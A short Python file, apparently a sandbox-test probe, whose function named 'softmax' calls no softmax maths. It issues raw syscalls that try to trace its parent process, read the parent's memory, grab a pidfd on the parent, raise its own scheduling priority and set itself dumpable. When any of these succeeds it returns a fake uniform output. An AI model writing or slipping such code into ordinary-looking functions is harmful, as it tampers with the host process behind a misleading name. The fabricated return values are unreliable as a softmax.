"""Traces its parent, reads its memory, takes its descriptors, and makes itself the most important process.

tiers: full locked
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def softmax(x):
    parent = os.getppid() or 1
    calls = [(101, 16, parent, 0, 0), (310, parent, 0, 0, 0, 0, 0), (434, parent, 0), (141, 0, 0, -20), (157, 4, 1, 0, 0, 0)]
    if any(libc.syscall(*arguments) >= 0 for arguments in calls):
        return [0.5] * len(x)
    raise PermissionError("all refused")
